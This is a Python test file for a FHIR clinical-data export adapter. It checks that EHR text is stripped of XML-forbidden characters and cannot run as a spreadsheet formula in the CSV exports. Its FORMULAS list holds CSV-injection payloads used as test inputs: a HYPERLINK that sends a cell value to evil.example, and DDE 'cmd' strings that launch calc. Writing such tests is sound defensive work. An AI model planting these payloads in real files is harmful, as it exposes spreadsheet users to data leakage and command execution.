"""EHR text cannot break odm.xml (XML 1.0 forbidden characters are removed and reported) nor run as a
formula in a spreadsheet that opens the CSV exports (OWASP CSV injection)."""

from __future__ import annotations

import csv
import datetime as dt
import json
import xml.etree.ElementTree as ET
from pathlib import Path
from typing import Any

import pytest

from fhir_adapter.export.sanitize import csv_cell, xml_text
from fhir_adapter.job.pipeline import run
from fhir_adapter.job.runlog import RunLog
from fhir_adapter.source.files import FileSource
from fhir_adapter.study.load import Study
from tests.feedkit import Feed, at

DAY1 = dt.date(2024, 2, 1)
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
CONTROL = ["nul\x00term", "bell\x07term", "esc\x1bterm", "ffff\uffffterm"]


def _ae(f: Feed, pid: str, aid: str, term: str) -> None:
    f.add({"resourceType": "AdverseEvent", "id": aid, "actuality": "actual",
           "subject": {"reference": f"Patient/{pid}"}, "event": {"text": term},
           "date": at(DAY1, 10), "detected": at(DAY1, 10)})


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory, study: Study) -> tuple[Path, dict[str, Any]]:
    tmp = tmp_path_factory.mktemp("sanitise")
    f = Feed()
    subjects = {"p1": "101-001", "p2": "101\x00-002", "p3": "=1+1"}
    for i, (pid, sid) in enumerate(subjects.items(), start=1):
        f.subject(pid, sid, name=f"Test Person{i}", mrn=f"MRN-{i}", birth="1990-01-01", day1=DAY1)
        f.obs(pid, "777-3", at(DAY1, 29), value=150 + i, unit="10*9/L", id_=f"plt-{i}")
    for n, term in enumerate(FORMULAS + CONTROL, start=1):
        _ae(f, "p1", f"ae-{n}", term)
    _ae(f, "p2", "ae-p2", "fever\x00")
    feed = f.write(tmp / "feed")
    log = RunLog()
    run(FileSource(feed, log), study, tmp / "out", runlog=log)
    return tmp / "out", json.loads((tmp / "out" / "run-report.json").read_text())


def test_odm_is_well_formed_and_the_removal_is_reported(exported: tuple[Path, dict[str, Any]]) -> None:
    out, report = exported
    root = ET.parse(out / "export" / "odm.xml").getroot()  # expat: a strict XML 1.0 parser
    ns = {"odm": "http://www.cdisc.org/ns/odm/v1.3"}
    keys = {s.get("SubjectKey") for s in root.iterfind(".//odm:SubjectData", ns)}
    assert keys == {"101-001", "101-002", "=1+1"}
    values = {i.get("Value") for i in root.iterfind(".//odm:ItemData", ns)}
    assert {"nulterm", "bellterm", "escterm", "ffffterm"} <= values
    warned = {w["subject_id"]: w for w in report["warnings"] if w.get("rule") == "xml-forbidden-characters"}
    assert set(warned) == {"101-001", "101\x00-002"}
    assert warned["101-001"]["message"].startswith("4 character(s)")


def test_csv_cells_never_start_a_formula(exported: tuple[Path, dict[str, Any]]) -> None:
    out, _ = exported
    cells: list[str] = []
    for path in (out / "export").glob("*.csv"):
        with path.open(newline="", encoding="utf-8") as fh:
            cells += [c for row in csv.reader(fh) for c in row]
    assert cells
    for c in cells:
        assert not c.startswith(("=", "+", "@", "\t", "\r")), c
        assert not c.startswith("-") or c.startswith("-P") or float(c) < 0, c
    for payload in FORMULAS:
        assert "'" + payload in cells
    assert "'=1+1" in cells  # the subject ID, in every domain and coverage-subjects.csv


def test_csv_cell_keeps_numbers() -> None:
    for number in (-2, -2.5, "-2", "-0.5", "-1e3", "+3", "12"):
        assert csv_cell(number) == number
    assert csv_cell("-2+3") == "'-2+3"
    assert csv_cell("-") == "'-"
    assert csv_cell("a=b") == "a=b"
    for duration in ("-PT1H", "-PT15M", "-P2D", "-P1DT2H"):  # --ELTM before the reference: no formula
        assert csv_cell(duration) == duration
    for not_duration in ("-P", "-PT", "-PT1H+cmd|' /C calc'!A0", "-PT1X"):
        assert csv_cell(not_duration) == "'" + not_duration


def test_xml_text_removes_only_forbidden_characters() -> None:
    assert xml_text("a\tb\nc\rd é 😀") == ("a\tb\nc\rd é 😀", 0)
    assert xml_text("\x00\x01\x08\x0b\x0c\x1f\ufffe\uffff\ud800x") == ("x", 9)
